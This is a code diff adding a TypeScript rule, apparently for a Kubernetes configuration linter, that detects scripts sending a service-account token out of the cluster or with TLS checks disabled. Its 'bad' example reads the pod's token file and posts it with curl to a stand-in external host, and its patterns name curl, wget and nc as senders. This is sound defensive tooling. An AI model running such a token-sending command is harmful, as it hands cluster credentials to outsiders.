@@ -1,0 +1,102 @@
+import type { Call } from '../../kube/pipeline/call.ts';
+import { cwe, docs } from '../../rule/references.ts';
+import { defineRule } from '../../rule/rule.ts';
+import { inScripts } from '../../rule/scripts.ts';
+import { substitute } from '../../yaml/change.ts';
+
+export const embeddedScriptTokenSent = defineRule({
+  id: 'embedded-script-token-sent',
+  summary: 'A script sends the token of its service account away, or without checking to whom',
+  why: "Whoever gets the token acts as the pod until it runs out. A receiver outside the cluster has no use for it but that; without a check of the certificate anybody on the way poses as the API server and takes it. The API server's authority lies beside the token.",
+  severity: 'high',
+  preset: 'recommended',
+  references: [
+    cwe(522),
+    cwe(295),
+    docs(
+      'Accessing the API from a pod',
+      'https://kubernetes.io/docs/tasks/run-application/access-api-from-pod/#directly-accessing-the-rest-api',
+    ),
+  ],
+  yieldsTo: ['gitlab-ci-download-tls-disabled'],
+  examples: {
+    bad: `
+apiVersion: v1
+kind: ConfigMap
+metadata: {name: report}
+data:
+  report.sh: |
+    TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
+    curl -H "Authorization: Bearer $TOKEN" https://collector.example/report
+#                                          ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ curl sends the token of the service account out of the cluster
+`,
+    good: `
+apiVersion: v1
+kind: ConfigMap
+metadata: {name: report}
+data:
+  report.sh: |
+    ACCOUNT=/var/run/secrets/kubernetes.io/serviceaccount
+    curl --cacert $ACCOUNT/ca.crt -H "Authorization: Bearer $(cat $ACCOUNT/token)" https://kubernetes.default.svc/api
+`,
+  },
+  check: inScripts(function* (call, script) {
+    if (!SENDERS.has(call.name)) return;
+    const unchecked = call.rest.find(({ text }) => text !== undefined && UNCHECKED.test(text));
+    if (unchecked !== undefined && call.rest.some(({ source }) => API.test(source))) {
+      yield {
+        at: call.line,
+        within: unchecked.span,
+        message: `${call.name} sends the token to whoever poses as the API server`,
+        fixes:
+          call.name === 'curl' && /^(?:-k|--insecure)$/.test(unchecked.source)
+            ? [
+                {
+                  title: 'Check the certificate',
+                  safety: 'needs-review',
+                  changes: [substitute(call.line, unchecked.span.start, unchecked.span.end, `--cacert ${FOLDER}/ca.crt`)],
+                },
+              ]
+            : [],
+      };
+      return;
+    }
+    const address = call.rest.find(({ text }) => text !== undefined && isOutside(text));
+    if (address === undefined || !holdsToken(call, script)) return;
+    yield { at: call.line, within: address.span, message: `${call.name} sends the token of the service account out of the cluster` };
+  }),
+});
+
+const FOLDER = '/var/run/secrets/kubernetes.io/serviceaccount';
+const TOKEN = /\/run\/secrets\/kubernetes\.io\/serviceaccount\/token\b/;
+
+const SENDERS: ReadonlySet<string> = new Set(['curl', 'wget', 'http', 'https', 'nc', 'ncat']);
+const UNCHECKED = /^(?:--insecure|--no-check-certificate|--verify=no|-[a-jl-zA-Z]*k[a-zA-Z]*)$/;
+const API = /kubernetes\.default|KUBERNETES_SERVICE_HOST|KUBERNETES_PORT/;
+
+/** Another cluster's Vault and clouds take the token in exchange for one of theirs, which is what it is for. */
+const EXCHANGES = /\/v1\/auth\/[\w/.-]+\/login|^https:\/\/(?:sts\.[\w.-]*amazonaws\.com|sts\.googleapis\.com|login\.microsoftonline\.com)/;
+
+function isOutside(text: string): boolean {
+  const host = /^https?:\/\/(?:[^@/]*@)?([^/:]+)/i.exec(text)?.[1];
+  if (host === undefined || EXCHANGES.test(text)) return false;
+  return (
+    host.includes('.') &&
+    !/^(?:127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|kubernetes\.default)|\.(?:svc|local|internal)(?:\.|$)/.test(host)
+  );
+}
+
+/** The token's file is a word of it or read into one, or a variable has been given it before. */
+function holdsToken(call: Call, script: readonly Call[]): boolean {
+  const { words } = call.command;
+  if (words.some(({ source }) => TOKEN.test(source))) return true;
+  const into = new Set(
+    script.filter(({ rest }) => rest.some(({ source }) => TOKEN.test(source))).map(({ command }) => command.substitutedInto),
+  );
+  if (into.has(call.command)) return true;
+  const text = call.line.text ?? '';
+  const names = [...text.slice(0, call.span.start).matchAll(ASSIGNED)].map((found) => found[1]);
+  return words.some(({ variables }) => variables.some(({ name }) => names.includes(name)));
+}
+
+const ASSIGNED = /\b([A-Za-z_]\w*)=["']?(?:\$\(|`)\s*(?:cat|<)\s+["']?[^\s)`]*\/serviceaccount\/token\b/g;
